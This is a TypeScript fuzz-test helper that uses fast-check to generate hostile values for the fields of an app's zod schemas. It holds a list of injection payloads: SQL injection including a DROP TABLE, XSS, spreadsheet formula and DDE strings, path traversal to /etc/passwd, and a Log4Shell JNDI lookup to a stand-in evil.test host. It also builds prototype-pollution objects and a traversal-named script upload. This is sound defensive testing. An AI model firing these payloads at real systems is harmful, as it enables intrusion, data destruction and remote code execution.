import { randomUUID } from "node:crypto";
import fc from "fast-check";
import type { z } from "zod";

/**
 * Hostile input for the fuzz suites: malformed, oversized, wrong-typed, unicode and injection-shaped values,
 * aimed at the real field names of an action's zod schema (plus keys nobody expects).
 */

export const SEED = Number(process.env.FUZZ_SEED ?? 20261121);
/** FUZZ_RUNS=200 for a longer hunt; the default keeps each file well under three minutes on two cores. */
export const RUNS = Number(process.env.FUZZ_RUNS ?? 30);

export const MB_STRING = "A".repeat(1_000_000);
const MB_UNICODE = "\u202E😀\u200B".repeat(250_000);
const BIG_ARRAY = Array.from({ length: 10_000 }, (_, i) => `x${i}`);

export const INJECTIONS = [
  "' OR 1=1 --",
  "'; DROP TABLE transactions; --",
  "1; select pg_sleep(5)",
  '"><script>alert(1)</script>',
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  '=HYPERLINK("http://evil.test","x")',
  "+SUM(1+1)",
  "-2+3",
  "@cmd",
  "=cmd|' /C calc'!A0",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2f",
  "${jndi:ldap://evil.test/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "%00",
  "\r\nSet-Cookie: a=b",
];

export const UNICODE = [
  "\u202Egnp.exe",
  "a\u200Bb\u200C\u200D\uFEFF",
  "😀👩‍👩‍👧‍👦🇺🇸",
  "\uD800",
  "\uDFFF\uD800x",
  "nul\u0000byte",
  "\u0000",
  "ｆｕｌｌｗｉｄｔｈ１２３",
  "Ω≈ç√∫˜µ≤≥÷",
  "١٢٣٫٤٥",
  "\u0301\u0301\u0301",
  "   ",
  "",
];

const pollution = () => [
  JSON.parse('{"__proto__": {"polluted": "yes"}}') as unknown,
  { constructor: { prototype: { polluted: "yes" } } },
  Object.assign(Object.create(null) as object, { toString: "x", valueOf: 1 }),
];

const plausible = () =>
  fc.constantFrom<unknown>(
    randomUUID(),
    "1.00",
    "0",
    "-1",
    "1e309",
    "0x10",
    "99999999999999999999",
    "sale",
    "card",
    "on",
    "true",
    "2026-13-45",
    "12/30",
    "a@b.c",
    "not-an-email",
  );

/** A single hostile value (objects and FormData alike get these; FormData stringifies non-strings). */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ v: unknown }>((tie) => ({
  v: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    fc.constantFrom(...INJECTIONS),
    fc.constantFrom(...UNICODE),
    fc.constantFrom(MB_STRING, MB_UNICODE),
    fc.constant(BIG_ARRAY),
    plausible(),
    fc.string({ unit: "binary", maxLength: 40 }),
    fc.string({ unit: "grapheme", maxLength: 40 }),
    fc.integer(),
    fc.constantFrom(NaN, Infinity, -Infinity, -0, Number.MAX_SAFE_INTEGER + 2, 1e308, -1e-308),
    fc.double(),
    fc.bigInt(),
    fc.boolean(),
    fc.constantFrom(null, undefined),
    fc.date({ noInvalidDate: false }),
    fc.constant(pollution()).chain((p) => fc.constantFrom(...p)),
    fc.array(tie("v"), { maxLength: 4 }),
    fc.dictionary(fc.string({ maxLength: 8 }), tie("v"), { maxKeys: 4 }),
  ),
})).v;

/** Field paths of a zod schema ("billing.city" for nested objects), walking wrappers, pipes and unions. */
export function schemaFields(schema: z.ZodType): string[] {
  const out = new Set<string>();
  const seen = new Set<unknown>();
  const walk = (s: unknown, prefix: string) => {
    if (!s || typeof s !== "object" || seen.has(s)) return;
    seen.add(s);
    const def = (s as { _zod?: { def?: Record<string, unknown> } })._zod?.def;
    if (!def) return;
    switch (def.type) {
      case "object":
        for (const [k, v] of Object.entries(def.shape as Record<string, unknown>)) {
          out.add(prefix + k);
          walk(v, `${prefix}${k}.`);
        }
        break;
      case "pipe":
        walk(def.in, prefix);
        walk(def.out, prefix);
        break;
      case "intersection":
        walk(def.left, prefix);
        walk(def.right, prefix);
        break;
      case "union":
        for (const o of def.options as unknown[]) walk(o, prefix);
        break;
      case "array":
        walk(def.element, `${prefix.replace(/\.$/, "")}[].`);
        break;
      default:
        if (def.innerType) walk(def.innerType, prefix);
    }
  };
  walk(schema, "");
  return [...out].filter((f) => !f.includes("[]."));
}

const EXTRA_KEYS = ["__proto__", "constructor", "prototype", "$ACTION_ID_x", "id[]", "", "a".repeat(300)];

/** Records whose keys are the schema's fields (a random subset) plus unexpected ones, with hostile values. */
export function hostileRecord(fields: string[], fixed: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const keys = fc.oneof(fc.constantFrom(...(fields.length ? fields : ["id"])), fc.constantFrom(...EXTRA_KEYS));
  return fc
    .tuple(fc.array(fc.tuple(keys, hostileValue), { minLength: 1, maxLength: 8 }), fc.boolean())
    .map(([entries, nest]) => {
      const rec: Record<string, unknown> = {};
      for (const [k, v] of entries) {
        // Nested field paths as an object ("billing": {"city": …}) half the time, flat ("billing.city") otherwise.
        const dot = k.indexOf(".");
        if (nest && dot > 0) {
          const head = k.slice(0, dot);
          const inner = (rec[head] && typeof rec[head] === "object" ? rec[head] : {}) as Record<string, unknown>;
          Object.defineProperty(inner, k.slice(dot + 1), {
            value: v,
            enumerable: true,
            configurable: true,
            writable: true,
          });
          rec[head] = inner;
        } else Object.defineProperty(rec, k, { value: v, enumerable: true, configurable: true, writable: true });
      }
      return { ...rec, ...fixed };
    });
}

/** String(v), or a stand-in for objects that refuse conversion (null prototype with a non-callable toString). */
function text(v: unknown): string {
  try {
    return String(v);
  } catch {
    return "[object]";
  }
}

/** The same record as a browser form would post it: strings, repeated keys for arrays, a stray file. */
export function toFormData(rec: Record<string, unknown>): FormData {
  const fd = new FormData();
  const put = (k: string, v: unknown) => {
    if (v === undefined) return;
    if (Array.isArray(v)) for (const x of v.slice(0, 10_000)) fd.append(k, text(x));
    else if (v instanceof Date) fd.append(k, Number.isNaN(v.getTime()) ? "Invalid Date" : v.toISOString());
    else if (v && typeof v === "object") {
      for (const [ik, iv] of Object.entries(v)) put(`${k}.${ik}`, iv);
      fd.append(k, new Blob(["<script>alert(1)</script>"], { type: "text/html" }), "../../evil.html");
    } else fd.append(k, text(v));
  };
  for (const [k, v] of Object.entries(rec)) put(k, v);
  return fd;
}

/** Hostile path segments for dynamic route params ([batchId], [runId], …). */
export const hostileSegment = fc.oneof(
  fc.constantFrom(...INJECTIONS, ...UNICODE),
  fc.constant(MB_STRING.slice(0, 100_000)),
  fc.uuid(),
  fc.string({ unit: "binary", maxLength: 30 }),
);

/** Short, printable description of a value (the 1 MB strings would flood the test output). */
export function preview(v: unknown, max = 400): string {
  let s: string;
  try {
    s = JSON.stringify(v, (_k, x: unknown) =>
      typeof x === "bigint"
        ? `${x}n`
        : typeof x === "string" && x.length > 60
          ? `${x.slice(0, 40)}…(${x.length} chars)`
          : Array.isArray(x) && x.length > 20
            ? [...x.slice(0, 5), `…(${x.length} items)`]
            : x,
    );
  } catch {
    s = text(v);
  }
  return s.length > max ? `${s.slice(0, max)}…` : s;
}

/** fast-check options: fixed seed, bounded runs, and a failure report that names the input without flooding. */
export function fcOptions<T>(runs = RUNS) {
  return {
    numRuns: runs,
    seed: SEED,
    endOnFailure: true,
    asyncReporter: async (d: { failed: boolean; counterexample: T | null; errorInstance?: unknown; seed: number }) => {
      if (!d.failed) return;
      const err = d.errorInstance instanceof Error ? d.errorInstance.message : String(d.errorInstance);
      throw new Error(`seed ${d.seed}: ${err.slice(0, 2000)}\ninput: ${preview(d.counterexample, 1500)}`);
    },
  };
}
